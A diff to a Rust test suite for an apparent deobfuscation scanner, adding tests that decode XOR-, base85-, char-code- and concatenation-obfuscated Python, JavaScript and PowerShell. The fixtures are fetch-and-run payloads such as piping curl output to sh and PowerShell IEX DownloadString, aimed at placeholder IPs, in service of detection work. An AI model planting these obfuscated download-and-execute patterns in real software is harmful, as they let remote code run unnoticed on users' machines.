@@ -62,6 +62,22 @@ fn js_repeating_xor_key_and_from_char_code() {
 }
 
 #[test]
+fn user_functions_with_parameters_are_applied() {
+    let key = b"k3y";
+    let plain = b"__import__('os').system('curl -s http://203.0.113.7/q | sh')";
+    let blob: Vec<String> = plain.iter().enumerate().map(|(i, b)| (b ^ key[i % 3]).to_string()).collect();
+    let src = format!(
+        "def unpack(data, k=b'k3y'):\n    return bytes(c ^ k[i % len(k)] for i, c in enumerate(data)).decode()\n\ndef _hook(x): return exec(x)\n\nBLOB = [{}]\n_hook(unpack(BLOB, b'k3y'))\n",
+        blob.join(", ")
+    );
+    let out = run(&src, Lang::Python);
+    assert!(out.iter().any(|p| p.text.contains("curl -s http://203.0.113.7/q")), "{out:?}");
+    // JavaScript: a helper declared with `function`, used before its table.
+    let src = "function dec(a, k) {\n  return a.map((c) => String.fromCharCode(c - k)).join('');\n}\nconst cp = require('child_process');\ncp.execSync(dec(T, 3));\nconst T = [122, 106, 104, 119, 35, 107, 119, 119, 115, 61, 50, 50, 123];\n";
+    assert!(texts(src, Lang::Javascript).iter().any(|t| t == "wget http://x"), "{:?}", texts(src, Lang::Javascript));
+}
+
+#[test]
 fn python_base85_through_aliases_and_getattr() {
     let blob = b85(b"import subprocess; subprocess.Popen(['curl', '-s', 'http://198.51.100.3/x'])");
     let src = format!(
@@ -103,14 +119,13 @@ fn shell_fragments_expand_into_eval() {
 #[test]
 fn powershell_char_casts_bxor_and_join() {
     let plain = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.8/p')";
-    let codes: Vec<String> = plain.bytes().map(|b| (b ^ 7).to_string()).collect();
-    let src = format!(
-        "$k = 7\n$d = @({})\n$s = -join ($d | % {{ [char]($_ -bxor $k) }})\n$t = ($d.ForEach({{ 1 }}))\n$u = -join ([char[]]@({}))\niex $u\n",
-        codes.join(","),
-        plain.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")
-    );
-    let out = texts(&src, Lang::Powershell);
-    assert!(out.iter().any(|t| t == plain), "{out:?}");
+    let xored: Vec<String> = plain.bytes().map(|b| (b ^ 7).to_string()).collect();
+    let src = format!("$k = 7\n$d = @({})\n$s = -join ($d | % {{ [char]($_ -bxor $k) }})\n", xored.join(","));
+    let out = run(&src, Lang::Powershell);
+    assert!(out.iter().any(|p| p.text == plain && p.chain.iter().any(|s| s == "xor")), "{out:?}");
+    let codes: Vec<String> = plain.bytes().map(|b| b.to_string()).collect();
+    let src = format!("$u = -join ([char[]]@({}))\niex $u\n", codes.join(","));
+    assert!(texts(&src, Lang::Powershell).iter().any(|t| t == plain));
     let src = "$a = 'Invoke-Web' + 'Request'\n$b = \"$a -Uri ht\" + 'tp://198.51.100.8/p'\nInvoke-Expression $b\n";
     assert!(texts(src, Lang::Powershell).iter().any(|t| t.starts_with("Invoke-WebRequest -Uri http")));
 }
@@ -205,4 +220,43 @@ proptest! {
         let src = parts.join(" ");
         let _ = run(&src, lang);
     }
+}
+
+#[test]
+fn long_concatenations_are_one_node() {
+    let src = format!("x = 'c' + 'u' + 'r' + 'l' + ' ' + 'h' + 't' + 't' + 'p'{}\nexec(x)\n", " + 'a'".repeat(5_000));
+    assert!(texts(&src, Lang::Python).iter().any(|t| t.starts_with("curl http")));
+}
+
+#[test]
+fn deep_nesting_fits_a_small_stack() {
+    // The scanner runs on worker threads whose stack is already partly used: the emulator must
+    // stay shallow even in debug builds, whatever the nesting of its input.
+    let inputs: Vec<(String, Lang)> = ["[", "(", "-", "lambda: ", "x(", "[...", "-join (", "new ", "@("]
+        .iter()
+        .flat_map(|open| {
+            [Lang::Python, Lang::Javascript, Lang::Powershell]
+                .into_iter()
+                .map(move |lang| (format!("x = {}'cu' + 'rl http://x'", open.repeat(200)), lang))
+        })
+        .chain(std::iter::once((format!("f = {}1{}", "(lambda x: ".repeat(60), ")".repeat(60)), Lang::Python)))
+        .chain(std::iter::once((
+            "x = 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2".repeat(20),
+            Lang::Python,
+        )))
+        .chain(
+            ["(1)", ".a", "[0]", " * 2", " ^ 1", " - 1"]
+                .iter()
+                .map(|t| (format!("x = y{}", t.repeat(20_000)), Lang::Python)),
+        )
+        .collect();
+    let handle = std::thread::Builder::new()
+        .stack_size(256 * 1024)
+        .spawn(move || {
+            for (src, lang) in inputs {
+                let _ = run(&src, lang);
+            }
+        })
+        .expect("spawn");
+    handle.join().expect("no stack overflow");
 }
